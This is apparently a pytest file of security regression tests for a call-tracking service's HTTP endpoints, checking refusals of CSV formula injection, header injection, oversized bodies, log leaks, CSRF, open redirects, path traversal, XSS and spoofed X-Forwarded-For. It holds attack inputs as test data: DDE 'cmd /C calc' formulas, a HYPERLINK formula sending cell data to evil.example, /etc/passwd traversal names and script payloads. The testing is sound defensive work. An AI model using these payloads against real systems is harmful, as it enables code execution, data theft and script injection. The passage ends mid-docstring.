"""Attacks on the service's HTTP endpoints, each tried against a real uvicorn over a real engine and
SQLite file: the ones that failed stay failed (each test here fails if its protection is removed),
and the ones that worked are fixed (the test came first).

Covered: formula injection in the CSV exports, header injection through the visitor cookie, oversized
and deeply nested bodies on every POST, API keys and webhook tokens kept out of the logs, token
guessing on heartbeats and intents, CSRF and open redirects around the dashboard's forms, cookie
flags, script injection in the dashboard, /docs and the demo page, path traversal in the static
route, spoofed X-Forwarded-For against the rate limits, CORS origins and the open endpoints."""
from __future__ import annotations

import csv
import io
import json
import logging
import re
from contextlib import contextmanager
from pathlib import Path
from urllib.parse import quote

import httpx
import pytest
from service_support import T0, Clock, metric
from test_snippet import browser  # noqa: F401  (the module's headless Chromium fixture)

from k50core import Engine
from k50core.bindings.service import create_app
from k50core.bindings.service.limits import Protection
from k50core.cli import demo_config_path

KEY = "attack-test-key-0123456789"
AUTH = {"X-API-Key": KEY}
SITE = "https://shop.example.ru"
UA = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36"
CAMPAIGN = SITE + "/sale?utm_source=yandex&utm_medium=cpc&utm_campaign="
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
AMO_TOKEN = "amo-secret-token-0123456789abcdefghij"
# what only the HTTP layer decides needs one build (the reference one: it is there in every install)
ONE_BUILD = pytest.mark.parametrize("build", ["reference"])
STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def made(tmp_path, build):
    """An engine over the demo config (the build of the test's parameter) and a SQLite file."""
    engines = []

    def make():
        e = Engine.from_config(demo_config_path(), store=str(tmp_path / f"k50-{len(engines)}.db"),
                               implementation=build)
        engines.append(e)
        return e
    yield make
    for e in engines:
        e.close()


@contextmanager
def service(engine, **options):
    settings = dict(api_keys=[KEY], now=Clock(), rate_limits=None, protection=None, cors_origins=[SITE])
    settings.update(options)
    with served(create_app(engine, **settings)) as (base, _):
        yield base


@contextmanager
def served(app):
    """``app`` under uvicorn as ``k50core serve`` runs it: at its default level (info: the access log
    on) and without uvicorn's own X-Forwarded-For handling (the app reads it, from trusted proxies
    only); every line of the uvicorn and k50core loggers kept."""
    import socket
    import threading
    import time

    import uvicorn

    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    srv = uvicorn.Server(uvicorn.Config(app, host="127.0.0.1", port=port, log_level="info", access_log=True,
                                        proxy_headers=False, lifespan="on"))
    kept = Kept()
    names = ("uvicorn", "uvicorn.access", "uvicorn.error", "k50core")
    thread = threading.Thread(target=srv.run, daemon=True)
    thread.start()
    deadline = time.monotonic() + 30
    while not srv.started:
        assert time.monotonic() < deadline and thread.is_alive(), "the server did not start"
        time.sleep(0.02)
    for name in names:  # after uvicorn configured its logging
        logging.getLogger(name).addHandler(kept)
    try:
        yield f"http://127.0.0.1:{port}", kept
    finally:
        srv.should_exit = True
        thread.join(30)
        for name in names:
            logging.getLogger(name).removeHandler(kept)


class Kept(logging.Handler):
    def __init__(self):
        super().__init__(logging.DEBUG)
        self.lines = []

    def emit(self, record):
        self.lines.append(record.getMessage())


# -- CSV / formula injection ------------------------------------------------------------------
def _cells(text):
    return list(csv.reader(io.StringIO(text)))


def test_formulas_in_utm_tags_are_neutralised_in_both_csv_exports(made):
    """A campaign named like a formula reaches the reports CSV and the calls CSV as text, with the
    leading quote OWASP advises; nothing in either export starts a formula."""
    engine = made()
    for i, campaign in enumerate(FORMULAS):
        got = engine.assign({"url": CAMPAIGN + quote(campaign, safe=""),
                             "visitor_id": f"v{i}", "ip": "5.6.7.8", "user_agent": UA}, now=T0 + i)
        assert got.number, campaign
        engine.attribute({"call_id": f"c{i}", "number": got.number, "caller": f"+7999000{i:04d}",
                          "started_at": T0 + 60 + i, "duration_seconds": 30}, now=T0 + 120 + i)
    engine.write_reports()
    with service(engine) as base:
        report = httpx.get(f"{base}/v1/reports?by=query.utm_campaign&format=csv&since=0", headers=AUTH)
        calls = httpx.get(f"{base}/v1/calls?format=csv&limit=100", headers=AUTH)
    assert report.status_code == calls.status_code == 200
    for text, column in ((report.text, "query.utm_campaign"), (calls.text, "utm_campaign")):
        rows = _cells(text)
        at = rows[0].index(column)
        shown = {r[at] for r in rows[1:]}
        assert {"'" + f for f in FORMULAS} <= shown, (column, shown)
        assert not [c for r in rows for c in r if c[:1] in STARTS]


# -- header injection / response splitting -----------------------------------------------------
@ONE_BUILD
def test_a_visitor_id_cannot_split_or_add_headers(made):
    """The visitor id is the one value echoed into a header (Set-Cookie): one with CR/LF is refused,
    and one that would add cookie attributes is answered but never set as the cookie."""
    engine = made()
    with service(engine) as base:
        for vid in ("a\r\nSet-Cookie: evil=1", "a\nX-Evil: 1", "ok\n"):
            r = httpx.post(f"{base}/v1/visit", json={"url": SITE, "visitor_id": vid}, headers={"User-Agent": UA})
            assert r.status_code == 422 and r.json()["problems"][0]["field"] == "visitor_id"
            assert "evil" not in r.headers.get("set-cookie", "") and "x-evil" not in r.headers
        sneaky = "v1; Domain=evil.example; Path=/admin"
        r = httpx.post(f"{base}/v1/visit", json={"url": SITE, "visitor_id": sneaky}, headers={"User-Agent": UA})
        assert r.status_code == 200 and r.json()["visitor_id"] == sneaky
        assert "set-cookie" not in r.headers
        plain = httpx.post(f"{base}/v1/visit", json={"url": SITE, "visitor_id": "v1"}, headers={"User-Agent": UA})
        assert plain.headers["set-cookie"].startswith("k50_vid=v1;")
        # a cookie that carries attributes of its own is not taken as the visitor id either
        r = httpx.post(f"{base}/v1/visit", json={"url": SITE}, headers={"User-Agent": UA,
                       "Cookie": 'k50_vid="x; Domain=evil.example"'})
        assert "evil.example" not in r.headers.get("set-cookie", "") and "evil" not in r.json()["visitor_id"]


@ONE_BUILD
def test_the_dashboard_redirects_only_to_itself(made):
    """Sign-in and sign-out send the browser to /dashboard whatever the request carries, and the
    trailing-slash redirect stays on this service (no //evil.example open redirect)."""
    engine = made()
    with service(engine) as base:
        client = httpx.Client(base_url=base)
        csrf = _csrf(client.get("/dashboard"))
        got = client.post("/dashboard/login?next=https://evil.example/",
                          data={"key": KEY, "csrf": csrf, "next": "https://evil.example/"})
        assert got.status_code == 303 and got.headers["location"] == "/dashboard"
        out = client.post("/dashboard/logout?next=//evil.example", data={"csrf": csrf, "next": "//evil.example"})
        assert out.status_code == 303 and out.headers["location"] == "/dashboard"
        for path in ("//evil.example/dashboard/", "/dashboard/", "/%2F%2Fevil.example/", "/\\evil.example/"):
            r = httpx.get(base + path, follow_redirects=False)
            location = r.headers.get("location")
            if location is not None:
                assert location.startswith(base + "/"), (path, location)
                assert not location[len(base):].startswith("//"), (path, location)


def _csrf(page):
    return re.search(r'name="csrf" value="([^"]+)"', page.text).group(1)


# -- oversized and deeply nested bodies -----------------------------------------------------------
def _streamed(size):
    def chunks():
        sent = 0
        while sent < size:
            part = min(65536, size - sent)
            sent += part
            yield b"[" * part
    return chunks()


@pytest.fixture
def wide_open(tmp_path, build):
    """Every POST reachable: an API key, an amoCRM token and a Bitrix24 application token."""
    engine = Engine.from_config(amo_config(), store=str(tmp_path / "k50.db"), implementation=build)
    yield engine
    engine.close()


def amo_config():
    import yaml

    config = yaml.safe_load(Path(demo_config_path()).read_text())
    config.setdefault("crm", {}).update({"amocrm_token": AMO_TOKEN, "bitrix24_application_token": "b24-app-token-0123456789"})
    return config


# (path, limit in bytes, extra headers): every POST route of the service
POSTS = [("/v1/visit", 16 * 1024, {}), ("/v1/heartbeat", 16 * 1024, {}), ("/v1/intent", 16 * 1024, {}),
         ("/v1/calls", 16 * 1024, AUTH), ("/v1/deals", 1024 * 1024, AUTH),
         ("/v1/crm/amocrm/" + AMO_TOKEN, 256 * 1024, {}), ("/v1/crm/bitrix24", 256 * 1024, {}),
         ("/dashboard/login", 4096, {}), ("/dashboard/logout", 4096, {})]


@ONE_BUILD
def test_every_post_refuses_an_oversized_body_declared_or_streamed(wide_open):
    """One byte over each route's limit is a 413, whether Content-Length says so or a chunked body
    runs over; the service then answers as before."""
    with service(wide_open) as base:
        for path, limit, headers in POSTS:
            declared = httpx.post(base + path, content=b"[" * (limit + 1),
                                  headers={"Content-Type": "application/json", **headers})
            assert declared.status_code == 413, (path, declared.status_code, declared.text)
            assert "error" in declared.json()
            streamed = httpx.post(base + path, content=_streamed(limit + 1),
                                  headers={"Content-Type": "application/json", **headers})
            assert streamed.status_code == 413, (path, streamed.status_code, streamed.text)
        assert httpx.get(f"{base}/healthz").json()["status"] == "ok"


@ONE_BUILD
def test_deeply_nested_json_is_a_clear_4xx_on_every_json_post(wide_open):
    """JSON nested as deep as each route's limit allows ([[[[...]]]], {"a":{"a":...}}) is a 400 or
    422 naming the body (204 on /v1/intent, which never answers an error), never a 500."""
    json_posts = [(p, n, h) for p, n, h in POSTS if not p.startswith(("/v1/crm", "/dashboard"))]
    with service(wide_open) as base:
        for path, limit, headers in json_posts:
            depth = (limit - 8) // 2
            for body in (b"[" * depth + b"]" * depth, b'{"a":' * (depth // 3) + b"1" + b"}" * (depth // 3)):
                body = body[:limit]
                r = httpx.post(base + path, content=body, headers={"Content-Type": "application/json", **headers})
                assert r.status_code in ((204,) if path == "/v1/intent" else (400, 413, 422)), \
                    (path, r.status_code, r.text)
        # numbers past a float's range are not taken as infinity
        huge = httpx.post(f"{base}/v1/deals", headers=AUTH, json=None, content=json.dumps(
            [{"deal_id": "d1", "phone": "+79990000001", "created_at": T0, "status": "won"}])[:-2].encode()
            + b', "amount": 1e400}]')
        assert huge.status_code == 422 and "amount" in huge.text
        call = httpx.post(f"{base}/v1/calls", headers={**AUTH, "Content-Type": "application/json"},
                          content=b'{"call_id": "x", "number": "+74950000001", "started_at": 1e400}')
        assert call.status_code == 422 and "started_at" in call.text
        assert httpx.get(f"{base}/v1/reports?format=json", headers=AUTH).status_code == 200


# -- secrets kept out of the logs ---------------------------------------------------------------
@ONE_BUILD
def test_no_api_key_or_webhook_token_reaches_the_logs(wide_open):
    """The API key (header, right or wrong), the amoCRM token (it travels in the URL: amoCRM signs
    nothing) and a dashboard sign-in key appear in no log line, the access log included."""
    wrong = "wrong-key-" + KEY
    with served(create_app(wide_open, api_keys=[KEY], now=Clock(), rate_limits=None,
                                   protection=None)) as (base, kept):
        assert httpx.get(f"{base}/v1/pools", headers={"Authorization": f"Bearer {KEY}"}).status_code == 200
        assert httpx.get(f"{base}/v1/pools", headers={"X-API-Key": wrong}).status_code == 401
        amo = httpx.post(f"{base}/v1/crm/amocrm/{AMO_TOKEN}?x=1", content=b"leads[status][0][id]=1",
                         headers={"Content-Type": "application/x-www-form-urlencoded"})
        assert amo.status_code in (200, 422)
        assert httpx.post(f"{base}/v1/crm/amocrm/a{AMO_TOKEN}", content=b"").status_code == 401
        assert httpx.post(f"{base}/v1/crm/amocrm?token={AMO_TOKEN}", content=b"").status_code == 400
        client = httpx.Client(base_url=base)
        client.post("/dashboard/login", data={"key": KEY, "csrf": _csrf(client.get("/dashboard"))})
        assert any("/v1/crm/amocrm" in line for line in kept.lines)  # the access log was on
    leaked = [line for line in kept.lines if KEY in line or AMO_TOKEN in line]
    assert not leaked
    assert any("/v1/crm/amocrm/[redacted]" in line for line in kept.lines)  # redacted, not dropped


# -- X-Forwarded-For and the rate limits -----------------------------------------------------------
def _limited(base):
    return metric(httpx.get(f"{base}/metrics", headers=AUTH).text, "k50_visits_rate_limited_total", limit="ip")


def test_a_spoofed_x_forwarded_for_escapes_no_visit_limit(made):
    """Per-IP visit limits (burst 2 here; the clock stands still, so nothing refills): without trusted
    proxies X-Forwarded-For is ignored, and behind one only the hop the proxy appended counts, so
    inventing addresses on the left gets no fresh bucket."""
    def visit(base, forwarded, n):
        return httpx.post(f"{base}/v1/visit", json={"url": SITE, "visitor_id": f"v{n}"},
                          headers={"User-Agent": UA, "X-Forwarded-For": forwarded})

    engine = made()
    with service(engine, rate_limits=(4.0, 1000.0)) as base:
        for n in range(4):
            assert visit(base, f"198.51.100.{n}", n).status_code == 200
        assert _limited(base) == 2
    with service(engine, rate_limits=(4.0, 1000.0), trusted_proxies=["127.0.0.1"]) as base:
        for n in range(4):  # the client is 203.0.113.5 whatever it claims before it
            assert visit(base, f"198.51.100.{n}, 203.0.113.5", n).status_code == 200
        assert _limited(base) == 2
        for n in range(2):  # another client behind the same proxy has a bucket of its own
            assert visit(base, "203.0.113.6", 10 + n).status_code == 200
        assert _limited(base) == 2


def _sign_in_until_refused(base, forwarded, key="not-the-key", attempts=40):
    client = httpx.Client(base_url=base, headers={"X-Forwarded-For": forwarded})
    csrf = _csrf(client.get("/dashboard"))
    for _ in range(attempts):
        got = client.post("/dashboard/login", data={"key": key, "csrf": csrf})
        if got.status_code == 429:
            return True
        assert got.status_code == 401
    return False


@ONE_BUILD
def test_sign_in_attempts_are_limited_per_client_not_per_proxy(made):
    """Guessing keys at the sign-in form is limited per client: an X-Forwarded-For from an untrusted
    peer changes nothing, and behind a trusted proxy one client's failures do not lock the others out."""
    engine = made()
    with service(engine) as base:  # no trusted proxy: the header is the client's to invent
        assert _sign_in_until_refused(base, "198.51.100.1")
        assert httpx.Client(base_url=base, headers={"X-Forwarded-For": "198.51.100.2"}).post(
            "/dashboard/login", data={"key": KEY}).status_code == 429
    with service(engine, trusted_proxies=["127.0.0.1"]) as base:
        assert _sign_in_until_refused(base, "198.51.100.1")  # the guesser is stopped ...
        other = httpx.Client(base_url=base, headers={"X-Forwarded-For": "203.0.113.9"})
        got = other.post("/dashboard/login", data={"key": KEY, "csrf": _csrf(other.get("/dashboard"))})
        assert got.status_code == 303  # ... the site's own staff behind the same proxy is not
        spoofed = httpx.Client(base_url=base, headers={"X-Forwarded-For": "203.0.113.10, 198.51.100.1"})
        assert spoofed.post("/dashboard/login", data={"key": KEY}).status_code == 429


# -- token guessing on heartbeats and intents ------------------------------------------------------
def _guarded(engine, **options):
    return service(engine, protection=Protection(secret=b"attack-test-secret"), trusted_proxies=["127.0.0.1"],
                   **options)


def test_guessing_tokens_on_heartbeats_is_limited_and_intents_tell_nothing(made):
    """A token is an unguessable tag; on top, heartbeats for tokens this process did not give the
    caller's network are limited per address (429 past the allowance: 60 at once), so a client
    cannot test tokens in bulk. An intent answers the same empty 204 for a live token and a made-up
    one, and the visitor who holds the lease keeps heartbeating from its own network."""
    from drain_support import browser_visit

    engine = made()
    with _guarded(engine) as base:
        owner = httpx.Client(base_url=base, headers={"X-Forwarded-For": "198.51.100.20", "Origin": SITE})
        got = browser_visit(owner, url=CAMPAIGN + "spring").json()
        token = got["token"]
        assert token and len(token) >= 16
        guesser = httpx.Client(base_url=base, headers={"X-Forwarded-For": "203.0.113.5", "Origin": SITE})
        answers = [guesser.post("/v1/heartbeat", json={"token": f"{token[:-4]}{n:04d}"}) for n in range(70)]
        assert {r.status_code for r in answers[:60]} == {200} and not any(r.json()["alive"] for r in answers[:60])
        assert {r.status_code for r in answers[60:]} == {429}
        live = guesser.post("/v1/intent", content=json.dumps({"token": token, "kind": "click"}))
        dead = guesser.post("/v1/intent", content=json.dumps({"token": token[:-1] + "x", "kind": "click"}))
        assert live.status_code == dead.status_code == 204 and live.content == dead.content == b""
        same = {k: v for k, v in live.headers.items() if k != "date"}
        assert same == {k: v for k, v in dead.headers.items() if k != "date"}
        mine = owner.post("/v1/heartbeat", json={"token": token})
        assert mine.status_code == 200 and mine.json() == {"alive": True}


# -- the dashboard's forms and cookies -----------------------------------------------------------------
def _signed_in(base):
    client = httpx.Client(base_url=base)
    csrf = _csrf(client.get("/dashboard"))
    got = client.post("/dashboard/login", data={"key": KEY, "csrf": csrf})
    assert got.status_code == 303
    return client, csrf, got


@ONE_BUILD
def test_signing_out_cannot_be_forged(made):
    """A page elsewhere cannot sign the staff out: without the form's token, with a guessed one, or
    from another Origin the sign-out is 403 and the session still opens the reports. A real sign-out
    ends the session on the server: a copy of its cookie kept elsewhere opens nothing."""
    engine = made()
    with service(engine) as base:
        client, csrf, _ = _signed_in(base)
        for data, headers in (({}, {}), ({"csrf": "guess"}, {}), ({"csrf": csrf}, {"Origin": "https://evil.example"}),
                              ({"csrf": csrf}, {"Origin": "null"})):
            assert client.post("/dashboard/logout", data=data, headers=headers).status_code == 403
        assert client.get("/v1/reports").status_code == 200
        kept = client.cookies["k50_dashboard"]  # as a thief would keep it
        assert client.post("/dashboard/logout", data={"csrf": csrf}).status_code == 303
        assert client.get("/v1/reports").status_code == 401
        assert httpx.get(f"{base}/v1/reports", cookies={"k50_dashboard": kept}).status_code == 401  # ended


def _cookie(response, name):
    found = [c for c in response.headers.get_list("set-cookie") if c.startswith(name + "=")]
    assert len(found) == 1, response.headers.get_list("set-cookie")
    return {p.strip().split("=")[0].lower(): p.strip() for p in found[0].split(";")}


@ONE_BUILD
@pytest.mark.parametrize("secure", [True, None])
def test_cookies_carry_their_flags(made, secure):
    """The session and CSRF cookies are HttpOnly and SameSite=Strict, the visitor's SameSite=Lax (the
    snippet on the site reads it); all are Secure when the service sits behind https (``k50core serve
    --public-url https://...`` sets secure_cookie), and not over plain http otherwise."""
    from k50core.cli import _secure_cookie

    assert _secure_cookie("https://track.example.ru") is True and _secure_cookie("http://track.example.ru") is None
    engine = made()
    with service(engine, secure_cookie=secure) as base:
        page = httpx.get(f"{base}/dashboard")
        csrf = _cookie(page, "k50_csrf")
        got = httpx.post(f"{base}/dashboard/login", data={"key": KEY, "csrf": _csrf(page)},  # a Secure cookie
                         headers={"Cookie": f"k50_csrf={page.cookies['k50_csrf']}"})  # is sent back by hand
        assert got.status_code == 303
        session = _cookie(got, "k50_dashboard")
        visit = _cookie(httpx.post(f"{base}/v1/visit", json={"url": SITE, "visitor_id": "v1"},
                                   headers={"User-Agent": UA}), "k50_vid")
    for cookie in (csrf, session):
        assert "httponly" in cookie and cookie["samesite"].lower() == "samesite=strict"
    assert visit["samesite"].lower() == "samesite=lax"
    for cookie in (csrf, session, visit):
        assert ("secure" in cookie) is bool(secure)
    assert page.headers["x-frame-options"] == "DENY" and "frame-ancestors 'none'" in page.headers[
        "content-security-policy"]


# -- static files, CORS, the open endpoints -----------------------------------------------------------
@ONE_BUILD
def test_the_static_route_serves_its_three_files_and_nothing_else(made):
    engine = made()
    with service(engine) as base:
        assert httpx.get(f"{base}/dashboard/static/app.js").status_code == 200
        for name in ("..%2Fdashboard.py", "%2e%2e%2fapp.py", "..%2F..%2F..%2Fpyproject.toml", "dashboard.js",
                     "chartjs%2Fchart.umd.min.js", "%2Fetc%2Fpasswd", "..%5Cdashboard.py", "app.js%00.py"):
            r = httpx.get(f"{base}/dashboard/static/{name}")
            assert r.status_code == 404, (name, r.status_code)
            assert "import" not in r.text and "root:" not in r.text
        raw = httpx.get(f"{base}/dashboard/static/../../app.py")  # httpx normalises: a 404 of another route
        assert raw.status_code == 404 and "import" not in raw.text


@ONE_BUILD
def test_cors_answers_only_the_allowed_origin(made):
    """The public endpoints give CORS headers (with credentials) to the configured site only: not to
    look-alikes, its subdomains or ``null``; those are refused outright when the guard checks origins."""
    engine = made()
    with service(engine) as base:
        ok = httpx.post(f"{base}/v1/visit", json={"url": SITE}, headers={"Origin": SITE, "User-Agent": UA})
        assert ok.headers["access-control-allow-origin"] == SITE
        for origin in ("https://shop.example.ru.evil.example", "https://evil.shop.example.ru", "null",
                       "http://shop.example.ru", "https://shop.example.ruevil"):
            r = httpx.post(f"{base}/v1/visit", json={"url": SITE}, headers={"Origin": origin, "User-Agent": UA})
            assert "access-control-allow-origin" not in r.headers, origin
            pre = httpx.options(f"{base}/v1/visit", headers={"Origin": origin,
                                                             "Access-Control-Request-Method": "POST"})
            assert pre.status_code == 403 and "access-control-allow-origin" not in pre.headers, origin
    with _guarded(engine) as base:
        r = httpx.post(f"{base}/v1/visit", json={"url": SITE},
                       headers={"Origin": "https://evil.example", "User-Agent": UA})
        assert r.status_code == 403
        forged = httpx.post(f"{base}/v1/visit", content=json.dumps({"url": SITE}),
                            headers={"Origin": SITE, "Content-Type": "text/plain", "User-Agent": UA})
        assert forged.status_code == 415  # a form or text/plain post needs no preflight: refused


@ONE_BUILD
def test_the_open_endpoints_tell_nothing_private(made):
    """/healthz says ok and the build, nothing of the process; /metrics and the private routes want a
    key (a metrics key opens /metrics only); a wrong key of any length is refused the same way."""
    engine = made()
    with service(engine, metrics_keys=["scrape-only-key-0123"]) as base:
        health = httpx.get(f"{base}/healthz").json()
        assert set(health) == {"status", "implementation"}
        for path in ("/metrics", "/v1/pools", "/v1/calls", "/v1/reports", "/v1/pools/usage", "/dashboard/plan"):
            for headers in ({}, {"X-API-Key": KEY[:-1]}, {"X-API-Key": KEY + "x"}, {"Authorization": "Bearer x"},
                            {"Authorization": f"Basic {KEY}"}, {"X-API-Key": "scrape-only-key-0123"}):
                if path == "/metrics" and headers.get("X-API-Key") == "scrape-only-key-0123":
                    continue
                r = httpx.get(base + path, headers=headers)
                assert r.status_code == 401 and r.json()["error"].startswith("a valid API key"), (path, headers)
        assert httpx.get(f"{base}/metrics", headers={"X-API-Key": "scrape-only-key-0123"}).status_code == 200
        assert httpx.get(f"{base}/metrics", headers={"Authorization": f"Bearer {KEY}"}).status_code == 200


@ONE_BUILD
def test_every_configured_key_is_compared_in_constant_time(made, monkeypatch):
    """No early exit: each configured key goes through hmac.compare_digest, whichever matches (a
    loop that stopped at the first match, or ``==``, would tell by its time which key is close)."""
    from k50core.bindings.service import app as service_app

    compared = []

    class Spy:
        @staticmethod
        def compare_digest(a, b):
            compared.append(b)
            return __import__("hmac").compare_digest(a, b)

    monkeypatch.setattr(service_app, "hmac", Spy)
    keys = ["first-key-0123456789", KEY, "third-key-0123456789"]
    engine = made()
    with service(engine, api_keys=keys) as base:
        for given in (KEY, "first-key-0123456789", "nope"):
            compared.clear()
            httpx.get(f"{base}/v1/pools", headers={"X-API-Key": given})
            assert sorted(compared) == sorted(k.encode() for k in keys), given


# -- script injection ------------------------------------------------------------------------------------
XSS_SOURCE = '<img src=x onerror="window.__xss=1">'
XSS_CAMPAIGN = '"><script>window.__xss=2</script>'


def test_visitors_utm_tags_are_text_on_the_dashboard(made, browser):  # noqa: F811
    """utm tags come from anyone's browser: on the dashboard they are shown as the text they are,
    never parsed as markup (and nothing of them runs)."""
    engine = made()
    for i in range(3):
        got = engine.assign({"url": f"{SITE}/?utm_source={quote(XSS_SOURCE)}&utm_medium=cpc"
                                    f"&utm_campaign={quote(XSS_CAMPAIGN)}",
                             "visitor_id": f"x{i}", "ip": "5.6.7.8", "user_agent": UA}, now=T0 + i)
        assert got.number
        engine.attribute({"call_id": f"x{i}", "number": got.number, "caller": f"+7999111{i:04d}",
                          "started_at": T0 + 60 + i, "duration_seconds": 40}, now=T0 + 300)
    engine.write_reports()
    with service(engine) as base:
        page = browser.new_page()
        try:
            page.goto(f"{base}/dashboard")
            page.fill("input[name=key]", KEY)
            page.click("button[type=submit]")
            page.goto(f"{base}/dashboard?since={int(T0) - 86400}&until={int(T0) + 86400}")
            page.wait_for_function("() => window.k50dashboard && window.k50dashboard.ready", timeout=15000)
            assert page.evaluate("() => window.k50dashboard.errors") == []
            cells = page.evaluate("() => Array.from(document.querySelectorAll('#top-table td'), td => td.textContent)")
            ran = page.evaluate("() => window.__xss === undefined ? null : window.__xss")
            injected = page.evaluate("() => document.querySelectorAll('#top-table img, #top-table script').length")
        finally:
            page.close()
    assert XSS_CAMPAIGN in cells and any(XSS_SOURCE.lower() in c.lower() for c in cells), cells
    assert ran is None and injected == 0


@ONE_BUILD
def test_the_demo_page_and_docs_escape_what_the_request_carries(made):
    """The demo page writes the request's own address into the snippet's tag: a Host header with
    markup in it comes out escaped. /docs is built from the OpenAPI document, every text escaped,
    with no script."""
    from k50core.bindings.service.pages import demo_page

    engine = made()
    with service(engine, demo=True) as base:
        evil = 'shop.example"><script>alert(1)</script>'
        status, text = _raw_get(base, "/", evil)
        assert status == 200 and "<script>alert(1)" not in text  # Starlette drops such a Host; and if not:
        page = demo_page("+74951234567", "+7 (495) 123-45-67", "http://" + evil, 30)
        assert "<script>alert(1)" not in page and "&quot;&gt;&lt;script&gt;alert(1)" in page
        status, text = _raw_get(base, "/docs?%3Cscript%3E", evil)
        assert status == 200 and "<script" not in text.lower()
        assert "<script" not in httpx.get(f"{base}/docs").text.lower()


def _raw_get(base, path, host):
    """A GET with exactly this Host header (an HTTP client would set its own), over a plain socket."""
    import socket

    port = int(base.rsplit(":", 1)[1])
    with socket.create_connection(("127.0.0.1", port), timeout=10) as conn:
        conn.sendall(f"GET {path} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n".encode("latin-1"))
        data = b""
        while True:
            chunk = conn.recv(65536)
            if not chunk:
                break
            data += chunk
    head, _, body = data.partition(b"\r\n\r\n")
    return int(head.split()[1]), body.decode("utf-8", "replace")


SINKS = re.compile(r"\.innerHTML|\.outerHTML|insertAdjacentHTML|document\.write|\beval\s*\(|new\s+Function\b"
                   r"|set(?:Timeout|Interval)\s*\(\s*['\"]|createContextualFragment|\.srcdoc")


@pytest.mark.parametrize("name", ["bindings/snippet/k50.js", "bindings/service/static/dashboard.js"])
def test_the_browser_scripts_write_server_data_as_text_only(name):
    """Neither the snippet (it writes the number /v1/visit answers into the site's page) nor the
    dashboard's script has an HTML or code sink: what the server answers is set as text."""
    source = (Path(__file__).resolve().parents[1] / name).read_text()
    assert "textContent" in source
    assert not SINKS.findall(source)
    assert SINKS.findall("el.innerHTML = display;") and SINKS.findall("setTimeout('x()', 1)")  # the check sees them


def test_a_visitor_id_with_a_trailing_newline_is_no_cookie_value():
    """``$`` also matches before a final newline: the check of what may be a cookie value (and a
    stored visitor id) must take the whole text (a quoted cookie "v1\\012" unquotes to "v1\\n")."""
    from k50core.bindings.visitors import VISITOR_ID

    assert VISITOR_ID.match("v1.abc-DEF_~")
    for bad in ("v1\n", "v1\r\n", "v1\nSet-Cookie: x=1", "", "v 1", "v1;"):
        assert not VISITOR_ID.match(bad), repr(bad)


# -- the webhooks' credentials -------------------------------------------------------------------------------
WEBHOOK_SECRET = "attack-webhook-secret-0123"


@ONE_BUILD
def test_webhooks_refuse_forged_stale_replayed_and_tokenless_requests(wide_open):
    """POST /v1/calls with a signature: a changed body, an old timestamp, the same signed request a
    second time, a Twilio signature over a JSON body and no credentials at all are 401, each naming
    why. The CRM webhooks refuse a wrong or missing token."""
    from k50core.bindings.telephony.signing import signed_headers

    clock = Clock()
    body = json.dumps({"call_id": "sig-1", "number": "+74950000001", "caller": "+79990000001",
                       "started_at": T0 - 60}).encode()
    json_type = {"Content-Type": "application/json"}
    with service(wide_open, now=clock, webhook_secrets=[WEBHOOK_SECRET], twilio_auth_token="tw-token-0123") as base:
        def post(content, headers):
            return httpx.post(f"{base}/v1/calls", content=content, headers={**json_type, **headers})

        signed = signed_headers(WEBHOOK_SECRET, body, timestamp=int(T0))
        assert post(body, signed).status_code == 200
        replayed = post(body, signed)
        assert replayed.status_code == 401 and replayed.json()["problems"][0]["message"] == "replayed"
        tampered = post(body.replace(b"+79990000001", b"+79990000002"), signed_headers(WEBHOOK_SECRET, body,
                                                                                        timestamp=int(T0) + 1))
        assert tampered.status_code == 401 and tampered.json()["problems"][0]["message"] == "bad signature"
        stale = post(body, signed_headers(WEBHOOK_SECRET, body, timestamp=int(T0) - 3600))
        assert stale.status_code == 401 and stale.json()["problems"][0]["message"] == "stale"
        other = post(body, signed_headers("not-the-secret", body, timestamp=int(T0) + 2))
        assert other.status_code == 401
        twilio = post(body, {"X-Twilio-Signature": "c2lnbmF0dXJl"})
        assert twilio.status_code == 401 and twilio.json()["problems"][0]["message"] == "not a form"
        assert post(body, {}).status_code == 401
        assert post(body, {"X-API-Key": "wrong"}).status_code == 401
        calls = httpx.get(f"{base}/v1/calls", headers=AUTH).json()["calls"]
        assert [c["call_id"] for c in calls] == ["sig-1"]

        form = {"Content-Type": "application/x-www-form-urlencoded"}
        for path in ("", "/wrong", f"/{AMO_TOKEN[:-1]}", f"/{AMO_TOKEN}x", f"/{AMO_TOKEN.upper()}"):
            r = httpx.post(f"{base}/v1/crm/amocrm{path}", content=b"leads[status][0][id]=1", headers=form)
            assert r.status_code == 401, path
        for token in ("", "wrong", "b24-app-token-012345678"):
            r = httpx.post(f"{base}/v1/crm/bitrix24", headers=form, content=(
                f"event=ONCRMDEALUPDATE&data[FIELDS][ID]=7&auth[application_token]={token}").encode())
            assert r.status_code == 401, token


@ONE_BUILD
def test_sign_in_behind_a_tls_proxy_takes_the_public_origin_only(made):
    """``k50core serve --public-url https://track.example.ru`` behind a proxy that ends TLS: the
    browser's form comes with ``Origin: https://track.example.ru`` while the request reaches the
    service over http. That origin is the service's own (the staff can sign in); any other is not."""
    engine = made()
    public = "https://track.example.ru"
    with service(engine, secure_cookie=True, public_url=public) as base:
        page = httpx.get(f"{base}/dashboard", headers={"Host": "track.example.ru"})
        cookie = {"Cookie": f"k50_csrf={page.cookies['k50_csrf']}", "Host": "track.example.ru"}
        form = {"key": KEY, "csrf": _csrf(page)}
        for origin in ("https://evil.example", "https://track.example.ru.evil.example", "null",
                       "https://evil.track.example.ru"):
            refused = httpx.post(f"{base}/dashboard/login", data=form, headers={**cookie, "Origin": origin})
            assert refused.status_code == 403, origin
        got = httpx.post(f"{base}/dashboard/login", data=form, headers={**cookie, "Origin": public})
        assert got.status_code == 303 and "Secure" in got.headers["set-cookie"]


# -- queries and headers that would cost the service dearly ---------------------------------------------------
@ONE_BUILD
def test_queries_that_would_cost_dearly_are_refused(made):
    """A pool usage of a second a step over centuries, a negative or zero step, an unknown or
